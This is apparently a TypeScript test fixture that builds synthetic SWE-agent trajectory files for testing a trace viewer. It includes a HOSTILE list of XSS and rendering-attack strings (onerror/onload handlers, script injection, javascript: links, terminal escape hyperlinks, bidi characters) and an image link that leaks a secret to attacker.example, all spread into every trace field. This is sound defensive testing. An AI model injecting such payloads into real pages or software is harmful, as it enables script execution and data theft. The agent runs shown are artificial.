/** Trajectories in the shape of SWE-agent 1.x, written for these tests. */

interface Step {
  thought: string;
  action: string;
  observation: string;
}

const ESC = "\u001b";

/** A trajectory file of the given steps. `marker` makes its bytes its own, so that no upload is a duplicate. */
export function traceOf(steps: readonly Step[], options: { marker: string; task: string; instance?: string }): string {
  const say = (role: string, content: unknown, message_type: string) => ({
    role,
    content,
    agent: "main",
    message_type,
  });
  const history: unknown[] = [
    say("system", "You repair software with the tools that you are given.", "system_prompt"),
    say("user", [{ type: "text", text: options.task }], "observation"),
  ];
  const trajectory = steps.map((step) => {
    history.push({
      ...say("assistant", `${step.thought}\n\n${step.action}`, "action"),
      thought: step.thought,
      action: step.action,
    });
    history.push(say("user", [{ type: "text", text: `OBSERVATION:\n${step.observation}` }], "observation"));
    return {
      ...step,
      response: step.thought,
      execution_time: 0.21,
      state: { working_dir: "/work/shop", open_file: "n/a" },
      extra_info: {},
    };
  });
  return JSON.stringify({
    trajectory,
    history,
    info: { swe_agent_version: "1.1.0", exit_status: "submitted", submission: "", model_stats: {} },
    replay_config: null,
    environment: options.instance ?? options.marker,
    marker: options.marker,
  });
}

const PRICE = `"""Prices of a basket."""

RATES = {"full": 20, "reduced": 10, "none": 0}


def tax(amount, rate):
    """Tax on an amount in cents, rounded half up."""
    return (amount * RATES[rate] + 50) // 100


def discount(amount, percent):
    return amount - amount * percent // 100


def total(lines, percent=0):
    """Total of a basket in cents, with tax."""
    amount = sum(line["price"] * line["count"] for line in lines)
    amount = discount(amount, percent)
    return amount + sum(tax(line["price"], line["rate"]) for line in lines)
`;

const quoted = (text: string) => `'${text.replaceAll("'", "'\"'\"'")}'`;

/** A run of 14 turns that creates a module, edits it in the wrong place, and sees its tests fail. */
export function shopRun(marker: string): string {
  const log = Array.from({ length: 400 }, (_, i) => `collected item ${i + 1} of the long log`).join("\n");
  const create = {
    thought: "There is no module for prices yet. I will write one.",
    action: `str_replace_editor create /work/shop/price.py --file_text ${quoted(PRICE)}`,
    observation: "File created successfully at: /work/shop/price.py\n",
  };
  const oldLine = '    return amount + sum(tax(line["price"], line["rate"]) for line in lines)';
  const newLine = '    return amount + sum(tax(discount(line["price"], percent), line["rate"]) for line in lines)';
  const edit = {
    thought:
      "The tax must be taken after the discount. `discount` does this for one price, so I apply it to each line.",
    action: `str_replace_editor str_replace /work/shop/price.py --old_str ${quoted(oldLine)} --new_str ${quoted(newLine)}`,
    observation:
      "The file /work/shop/price.py has been edited. Here's the result of running `cat -n` on a snippet of /work/shop/price.py:\n    19\t" +
      newLine +
      "\nReview the changes and make sure they are as expected. Edit the file again if necessary.",
  };
  const refused = {
    thought: "I also want to rename the rates.",
    action: `str_replace_editor str_replace /work/shop/price.py --old_str ${quoted("RATES = [20]")} --new_str ${quoted("RATE = [20]")}`,
    observation: "No replacement was performed, old_str `RATES = [20]` did not appear verbatim in /work/shop/price.py.",
  };
  const tests = {
    thought: "Now the tests.",
    action: "python -m pytest tests -q",
    observation: `${ESC}[31mF${ESC}[0m${ESC}[32m....${ESC}[0m\n${ESC}[1;31mFAILED${ESC}[0m tests/test_price.py::test_count - assert 240 == 480\n${ESC}[31m1 failed${ESC}[0m, ${ESC}[32m4 passed${ESC}[0m in 0.12s\n`,
  };
  const look = (what: string, observation: string) => ({
    thought: `Look at ${what}.`,
    action: `cat ${what}`,
    observation,
  });
  return traceOf(
    [
      look("README.md", "# Shop\n\nA small shop.\n"),
      { thought: "What is here?", action: "ls -la /work/shop", observation: "README.md\ntests\n" },
      look("tests/test_price.py", "def test_count():\n    assert True\n"),
      create,
      {
        thought: "A quick script to see it work.",
        action: `str_replace_editor create /work/shop/try_it.py --file_text ${quoted("print(1)\n")}`,
        observation: "File created successfully at: /work/shop/try_it.py\n",
      },
      { thought: "Run it.", action: "python try_it.py", observation: "1\n" },
      edit,
      refused,
      tests,
      { thought: "The log of the build.", action: "cat build.log", observation: log },
      look("price.py", PRICE.replace(oldLine, newLine)),
      {
        thought: "Search for the caller.",
        action: "grep -rn total .",
        observation: "price.py:16:def total(lines, percent=0):\n",
      },
      tests,
      { thought: "This is as far as I get.", action: "submit", observation: "" },
    ],
    { marker, task: "The total of a basket ignores how many of an article are bought when it computes the tax." },
  );
}

/** A long run: `turns` turns, with writes and test runs spread over it. */
export function longRun(marker: string, turns: number): string {
  const steps: Step[] = [];
  for (let i = 0; i < turns; i++) {
    if (i % 37 === 20) {
      steps.push({
        thought: `Write part ${i}.`,
        action: `str_replace_editor create /work/shop/part_${i % 5}.py --file_text ${quoted(`PART = ${i}\n`)}`,
        observation: `File created successfully at: /work/shop/part_${i % 5}.py\n`,
      });
    } else if (i % 53 === 30) {
      steps.push({
        thought: "Test.",
        action: "python -m pytest -q",
        observation: `${i % 2 ? "1 failed, " : ""}3 passed in 0.1s\n`,
      });
    } else
      steps.push({
        thought: `Look at page ${i}.`,
        action: `sed -n ${i + 1},${i + 5}p notes.txt`,
        observation: `note ${i}\n`.repeat(1 + (i % 4) ** 3),
      });
  }
  return traceOf(steps, { marker, task: "Go through all notes." });
}

/** A run that writes a module of 300 lines and then changes line 240 of it. */
export function tallRun(marker: string): string {
  const rows = Array.from({ length: 300 }, (_, i) => `ROW_${i + 1} = ${i + 1}\n`).join("");
  return traceOf(
    [
      {
        thought: "All rows, one a line.",
        action: `str_replace_editor create /work/shop/table.py --file_text ${quoted(rows)}`,
        observation: "File created successfully at: /work/shop/table.py\n",
      },
      {
        thought: "This row must be 0.",
        action: `str_replace_editor str_replace /work/shop/table.py --old_str ${quoted("ROW_240 = 240")} --new_str ${quoted("ROW_240 = 0")}`,
        observation: "The file /work/shop/table.py has been edited.",
      },
      { thought: "Done.", action: "submit", observation: "" },
    ],
    { marker, task: "Write the table." },
  );
}

/** A run with one result of `chars` characters. */
export function largeRun(marker: string, chars: number): string {
  const line = "a line of a very long result that goes on and on 0123456789\n";
  return traceOf(
    [
      { thought: "Look.", action: "cat everything.log", observation: line.repeat(Math.ceil(chars / line.length)) },
      { thought: "One line.", action: "cat one-line.json", observation: "x".repeat(300_000) },
    ],
    { marker, task: "Read everything." },
  );
}

/** Strings that try to become markup, code, links, images or another look of the page. */
export const HOSTILE = [
  '<img src=x onerror="window.__pwned=1">',
  "<svg/onload=window.__pwned=1>",
  '"><script>window.__pwned=1</script>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "[click](javascript:window.__pwned=1) [data](data:text/html,x) [tab](java\tscript:window.__pwned=1)",
  "![leak](https://attacker.example/leak?q=secret) https://attacker.example/",
  `${ESC}]8;;javascript:window.__pwned=1${ESC}\\link${ESC}]8;;${ESC}\\`,
  "\u202eesrever\u202c \u2066isolate\u2069 zero\u200bwidth",
  '<script>top.self.location.href="/?pwned=1"</script>',
  '<meta http-equiv="refresh" content="0;url=/?pwned=2">',
  '<object data="javascript:window.__pwned=1"></object><embed src="https://attacker.example/embedded">',
  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"></animate></svg>',
];

/** A run that holds hostile strings in every field that a trace fills. */
export function hostileRun(marker: string): string {
  const all = HOSTILE.join("\n");
  const name = HOSTILE[0] ?? "";
  return traceOf(
    [
      { thought: all, action: `cat '${name}'`, observation: all },
      {
        thought: all,
        action: `str_replace_editor create '/work/shop/${name}.py' --file_text ${quoted(all)}`,
        observation: `File created successfully at: /work/shop/${name}.py\n`,
      },
      { thought: HOSTILE[4] ?? "", action: all.replaceAll("\n", " "), observation: all },
      { thought: all, action: "submit", observation: all },
    ],
    { marker, task: all, instance: name },
  );
}
